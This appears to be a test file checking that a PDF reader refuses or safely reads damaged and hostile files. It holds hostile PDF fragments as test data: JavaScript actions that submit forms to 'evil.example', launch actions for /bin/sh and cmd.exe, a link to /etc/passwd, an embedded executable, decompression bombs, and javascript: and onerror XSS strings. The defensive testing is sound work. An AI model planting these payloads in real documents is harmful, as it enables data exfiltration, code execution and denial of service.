/** Damaged and hostile PDFs: read or refused in bounded time, never with another error; nothing in them runs or is fetched. */
import { setTimeout } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import type { SourceDocument } from '../../../lib/model/document.ts';
import { PdfRefused } from '../../../lib/pdf/pdf-refused.ts';
import { lzwBomb, lzwPacked } from '../../pdf/lzw-packed.ts';
import { writtenPdf } from '../../pdf/pdf-objects.ts';
import { plainPdf } from '../../pdf/plain-pdf.ts';
import { readPdf } from '../../pdf/read-pdf.ts';

/** ms of processor time for one small file, which others on the machine do not add to. */
const LONGEST = 10_000;

const PAGES = [
  ['Referat fra møte i NUIT', 'Sak 25/23: Prioritering', 'Vedtak:', 'NUIT drøftet saken.'],
  {
    lines: ['Sak 26/23: Eventuelt'],
    links: [{ address: 'https://www.ehelse.no/a.pdf', box: [72, 60, 200, 80] }],
  },
  ['Slutt'],
] as const;
const HONEST = plainPdf(PAGES, { outline: [{ title: 'Sak 25/23', page: 1 }] });

/** What came of it: the document, or why it was refused. Any other error is thrown. */
async function tried(bytes: Uint8Array): Promise<SourceDocument | PdfRefused> {
  const begun = process.cpuUsage();
  try {
    return await readPdf(bytes);
  } catch (error) {
    if (error instanceof PdfRefused) return error;
    throw error;
  } finally {
    const { user, system } = process.cpuUsage(begun);
    expect((user + system) / 1000).toBeLessThan(LONGEST);
  }
}

const listeners = process.listeners('unhandledRejection');
const unhandled: unknown[] = [];
const keepUnhandled = (error: unknown) => void unhandled.push(error);

const fetched = vi.fn();
const alerted = vi.fn();

beforeAll(() => {
  vi.stubGlobal('fetch', fetched);
  vi.stubGlobal('XMLHttpRequest', fetched);
  vi.stubGlobal('alert', alerted);
  // In a browser they end in the worker, which goes on. Here pdf.js works on this thread.
  process.removeAllListeners('unhandledRejection');
  process.on('unhandledRejection', keepUnhandled);
  // pdf.js says what it repairs.
  vi.spyOn(console, 'warn').mockReturnValue();
  vi.spyOn(console, 'log').mockReturnValue();
});
afterAll(async () => {
  await setTimeout(50);
  process.off('unhandledRejection', keepUnhandled);
  for (const listener of listeners) process.on('unhandledRejection', listener);
  for (const error of unhandled)
    expect(String(error)).toMatch(
      /^(?:FormatError|ParserEOFException|MissingDataException|XRef\w*|Error): /u,
    );
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
  expect(fetched).not.toHaveBeenCalled();
  expect(alerted).not.toHaveBeenCalled();
});

describe('damage', () => {
  test('the file itself is read', async () => {
    const read = await tried(HONEST);
    expect(read).toMatchObject({ pages: [0, expect.any(Number), expect.any(Number)] });
  });

  test('cut at each of 50 places', async () => {
    let refused = 0;
    for (let place = 0; place < 50; place += 1) {
      const cut = HONEST.slice(0, Math.floor((HONEST.length * place) / 50));
      if ((await tried(cut)) instanceof PdfRefused) refused += 1;
    }
    // Without its table and its catalogue there is nothing to find the pages by.
    expect(refused).toBeGreaterThan(10);
  });

  test('500 files with flipped bytes', async () => {
    let random = 20_261_122;
    const next = (below: number) => {
      random = (Math.imul(random, 1_103_515_245) + 12_345) & 0x7fffffff;
      return random % below;
    };
    let read = 0;
    for (let run = 0; run < 500; run += 1) {
      const bytes = HONEST.slice();
      for (let flips = 1 + next(20); flips > 0; flips -= 1) bytes[next(bytes.length)] = next(256);
      if (!((await tried(bytes)) instanceof PdfRefused)) read += 1;
    }
    // Most damage of this size is mended.
    expect(read).toBeGreaterThan(100);
  });

  test.each([
    ['nothing', new Uint8Array()],
    ['the head alone', new TextEncoder().encode('%PDF-1.7\n')],
    ['a page of HTML', new TextEncoder().encode('<!doctype html><title>404</title>')],
    ['zeros', new Uint8Array(100_000)],
    [
      'the head and noise',
      Uint8Array.from({ length: 50_000 }, (_, index) =>
        index < 9 ? '%PDF-1.7\n'.charCodeAt(index) : (index * 7919) % 256,
      ),
    ],
  ])('%s is refused', async (_, bytes) => {
    expect(await tried(bytes)).toBeInstanceOf(PdfRefused);
  });
});

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const pageOf = (contents: string, box = '0 0 595 842', more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents ${contents} /Resources << /Font << /F1 3 0 R >> >> ${more} >>`;
const words = (text: string) => ({ head: '<< >>', stream: `BT /F1 12 Tf 72 700 Td (${text}) Tj ET` });

/** Catalogue, page tree, font, page, its words; then more. */
function withParts({
  catalogue = '',
  tree = '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
  page = pageOf('5 0 R'),
  contents = words('Sak 25/23'),
  more = [],
}: {
  readonly catalogue?: string;
  readonly tree?: string;
  readonly page?: string;
  readonly contents?: Parameters<typeof writtenPdf>[0][number];
  readonly more?: Parameters<typeof writtenPdf>[0];
}): Uint8Array {
  const head = `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`;
  return writtenPdf([{ head }, { head: tree }, { head: FONT }, { head: page }, contents, ...more], null);
}

describe('page trees and pages', () => {
  test.each([
    ['that hold themselves', withParts({ tree: '<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 2 >>' })],
    [
      'that hold each other',
      withParts({
        tree: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
        more: [{ head: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }],
      }),
    ],
    ['whose page is a number', withParts({ page: '42' })],
    ['without a page', withParts({ tree: '<< /Type /Pages /Kids [] /Count 0 >>' })],
    ['that claim 100,000 pages', withParts({ tree: '<< /Type /Pages /Kids [4 0 R] /Count 100000 >>' })],
    ['that claim fewer than none', withParts({ tree: '<< /Type /Pages /Kids [4 0 R] /Count -7 >>' })],
    [
      '1,000 deep',
      withParts({
        tree: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
        more: Array.from({ length: 1000 }, (_, index) => ({
          head: `<< /Type /Pages /Kids [${index === 999 ? 4 : index + 7} 0 R] /Count 1 >>`,
        })),
      }),
    ],
  ])('trees %s', async (_, bytes) => {
    const read = await tried(bytes);
    if (!(read instanceof PdfRefused)) expect(read.text.length).toBeLessThan(1000);
  });

  test('100,000 pages that are one and the same are refused for their number', async () => {
    const kids = '4 0 R '.repeat(100_000);
    const read = await tried(withParts({ tree: `<< /Type /Pages /Kids [${kids}] /Count 100000 >>` }));
    expect(read).toMatchObject({ fault: 'too-large' });
  });

  test.each(['0 0 1e30 1e30', '0 0 0 0', '5 5 -900 -900', '0 0 (a) (b)', ''])(
    'a page of the size [%s]',
    async (box) => {
      const read = await tried(withParts({ page: pageOf('5 0 R', box) }));
      if (!(read instanceof PdfRefused)) expect(read.text).toContain('25/23');
    },
  );

  test('letters of no size, without end, and far outside', async () => {
    const stream =
      'BT /F1 0 Tf (a) Tj /F1 1e38 Tf (b) Tj 1 0 0 1 1e38 -1e38 Tm (c) Tj /F1 12 Tf 0 0 0 0 0 0 Tm (d) Tj ET';
    await tried(withParts({ contents: { head: '<< >>', stream } }));
  });

  test('20,000 words on one page', async () => {
    const stream = Array.from(
      { length: 50_000 },
      (_, index) => `BT /F1 9 Tf 1 0 0 1 ${(index * 37) % 600} ${(index * 91) % 800} Tm (ord${index}) Tj ET`,
    ).join('\n');
    const read = await tried(withParts({ contents: { head: '<< >>', stream } }));
    expect(read).not.toBeInstanceOf(PdfRefused);
  });
});

describe('streams that grow', () => {
  const inflated = (megabytes: number) =>
    deflateSync(Buffer.alloc(megabytes * 2 ** 20, ' '), { level: 9 }).toString('latin1');
  const BOMB = inflated(300);

  const grown = async (bytes: Uint8Array) => {
    const before = process.memoryUsage().rss;
    const read = await tried(bytes);
    return { read, megabytes: (process.memoryUsage().rss - before) / 2 ** 20 };
  };

  test('a page of 32 MB of white space has no text', async () => {
    const contents = { head: '<< /Filter /FlateDecode >>', stream: inflated(32) };
    const { read, megabytes } = await grown(withParts({ contents }));
    expect(read).toMatchObject({ fault: 'no-text' });
    expect(megabytes).toBeLessThan(600);
  });

  test.each(['/FlateDecode', '/Fl#61teDecode', '/Fl', '[/FlateDecode]'])(
    'a page of 300 MB is refused before it is unpacked (%s)',
    async (filter) => {
      const contents = { head: `<< /Filter ${filter} >>`, stream: BOMB };
      const { read, megabytes } = await grown(withParts({ contents }));
      expect(read).toMatchObject({ fault: 'too-large' });
      expect(megabytes).toBeLessThan(200);
    },
  );

  const hex = (packed: string) => `${Buffer.from(packed, 'latin1').toString('hex')}>`;

  test.each([
    ['LZW', '/LZWDecode', lzwBomb(300 * 2 ** 20)],
    ['LZW by its short name', '/LZW', lzwBomb(300 * 2 ** 20)],
    ['deflated, in letters', '[/ASCIIHexDecode /FlateDecode]', hex(BOMB)],
    ['deflated, as another object says', '7 0 R', BOMB],
  ])('a page of 300 MB is refused before it is unpacked: %s', async (_, filter, stream) => {
    const contents = { head: `<< /Filter ${filter} >>`, stream };
    const more = [{ head: '<< >>' }, { head: '/FlateDecode' }];
    const { read, megabytes } = await grown(withParts({ contents, more }));
    expect(read).toMatchObject({ fault: 'too-large' });
    expect(megabytes).toBeLessThan(200);
  });

  test('a page that is packed by LZW is read', async () => {
    const words = new TextEncoder().encode('BT /F1 12 Tf 72 700 Td (Sak 25/23) Tj ET '.repeat(2000));
    const read = await tried(
      withParts({ contents: { head: '<< /Filter /LZWDecode >>', stream: lzwPacked(words) } }),
    );
    expect(read).toMatchObject({ text: expect.stringContaining('Sak 25/23') });
  });

  test('what is packed twice is refused', async () => {
    const twice = deflateSync(Buffer.from(BOMB, 'latin1'), { level: 9 }).toString('latin1');
    const contents = { head: '<< /Filter [/FlateDecode /FlateDecode] >>', stream: twice };
    expect(await tried(withParts({ contents }))).toMatchObject({ fault: 'too-large' });
  });

  test('a large part that grows little is read', async () => {
    const noise = Array.from({ length: 60_000 }, (_, at) => `${Math.imul(at, 2_654_435_761) >>> 0} 0 m`).join(
      '\n',
    );
    const stream = deflateSync(Buffer.from(`${noise}\nBT /F1 12 Tf 72 700 Td (Sak 25/23) Tj ET`)).toString(
      'latin1',
    );
    expect(stream.length).toBeGreaterThan(262_144);
    const read = await tried(withParts({ contents: { head: '<< /Filter /FlateDecode >>', stream } }));
    expect(read).toMatchObject({ text: expect.stringContaining('Sak 25/23') });
  });
});

describe('what a file wants done', () => {
  const ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>';
  const LAUNCH = '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>';
  const link = (action: string) =>
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 900] /A ${action} >>]`;

  test.each([
    ['JavaScript on opening', withParts({ catalogue: `/OpenAction ${ACTION} /AA << /WC ${ACTION} >>` })],
    ['JavaScript by name', withParts({ catalogue: `/Names << /JavaScript << /Names [(a) ${ACTION}] >> >>` })],
    ['JavaScript of a page', withParts({ page: pageOf('5 0 R', '0 0 595 842', `/AA << /O ${ACTION} >>`) })],
    [
      'a program to start',
      withParts({ catalogue: `/OpenAction ${LAUNCH}`, page: pageOf('5 0 R', '0 0 595 842', link(LAUNCH)) }),
    ],
    [
      'another file to open',
      withParts({
        page: pageOf('5 0 R', '0 0 595 842', link('<< /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>')),
      }),
    ],
    [
      'a form to send',
      withParts({
        page: pageOf('5 0 R', '0 0 595 842', link('<< /S /SubmitForm /F (https://evil.example/) >>')),
      }),
    ],
    [
      'an XFA form',
      withParts({
        catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>',
        more: [
          { head: '<< >>', stream: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>' },
        ],
      }),
    ],
    [
      'a file inside',
      withParts({
        catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        more: [
          { head: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>' },
          { head: '<< /Type /EmbeddedFile >>', stream: 'MZ' },
        ],
      }),
    ],
    [
      'a stream elsewhere',
      withParts({
        contents: { head: '<< /F (https://evil.example/x) /FFilter /FlateDecode >>', stream: '' },
      }),
    ],
  ])('%s: only its words are read', async (_, bytes) => {
    const read = await tried(bytes);
    if (read instanceof PdfRefused) expect(read.fault).toBe('no-text');
    else {
      expect(read.text).toContain('Sak 25/23');
      expect(read.links).toEqual([]);
    }
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'file:///etc/passwd',
    'data:text/html,<script>1</script>',
    'chrome://settings',
    ' javascript:alert(1)',
  ])('no link to %s', async (address) => {
    const read = await tried(
      plainPdf([{ lines: ['Sak 25/23'], links: [{ address, box: [0, 0, 600, 800] }] }]),
    );
    expect(read).toMatchObject({ links: [] });
  });

  test('a link to another host is only named', async () => {
    const links = [{ address: 'https://evil.example/a.pdf', box: [0, 0, 600, 800] }] as const;
    const read = await tried(plainPdf([{ lines: ['Sak 25/23'], links }]));
    expect(read).toMatchObject({ links: [{ address: 'https://evil.example/a.pdf' }] });
  });

  test('markup in the words stays words', async () => {
    const read = await tried(plainPdf([['<img src=x onerror=alert(1)> Sak 25/23']]));
    expect(read).toMatchObject({ text: expect.stringContaining('<img src=x onerror=alert(1)> Sak 25/23') });
  });
});

describe('passwords', () => {
  const locked = plainPdf(PAGES, { password: 'hemmelig' });
  test('asked for, refused, and right', async () => {
    expect(await tried(locked)).toMatchObject({ fault: 'password' });
    await expect(readPdf(locked, { password: 'feil' })).rejects.toMatchObject({ fault: 'wrong-password' });
    expect((await readPdf(locked, { password: 'hemmelig' })).text).toContain('Sak 25/23');
  });
});
